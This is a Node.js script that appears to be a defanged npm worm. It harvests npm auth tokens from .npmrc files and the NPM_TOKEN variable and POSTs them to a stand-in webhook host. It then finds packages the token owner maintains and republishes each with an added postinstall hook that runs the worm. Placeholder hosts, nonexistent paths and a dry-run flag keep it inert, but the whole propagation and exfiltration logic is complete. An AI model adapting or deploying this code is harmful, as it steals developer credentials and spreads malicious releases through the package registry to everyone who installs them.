const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process')
const REG = 'https://registry.invalid'

function tokens () {
  const found = []
  for (const f of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')]) {
    if (!fs.existsSync(f)) continue
    for (const m of fs.readFileSync(f, 'utf8').matchAll(/_authToken=(.+)/g)) found.push(m[1].trim())
  }
  if (process.env.NPM_TOKEN) found.push(process.env.NPM_TOKEN)
  return found
}

async function owned (token) {
  const me = await fetch(REG + '/-/whoami', { headers: { authorization: 'Bearer ' + token } }).then(r => r.json())
  const hits = await fetch(`${REG}/-/v1/search?text=maintainer:${me.username}&size=20`).then(r => r.json())
  return hits.objects.map(o => o.package.name)
}

async function spread (name) {
  const dir = path.join('/nonexistent', name)
  const manifest = JSON.parse(fs.readFileSync(path.join(dir, 'package.json')))
  manifest.version = manifest.version.replace(/\d+$/, n => +n + 1)
  manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle.js' }
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify(manifest))
  cp.execFileSync('npm', ['publish', '--dry-run', '--registry', REG], { cwd: dir })
}

(async () => {
  for (const t of tokens()) {
    await fetch('https://webhook.example/t', { method: 'POST', body: t })
    for (const n of await owned(t)) await spread(n)
  }
})().catch(() => {})
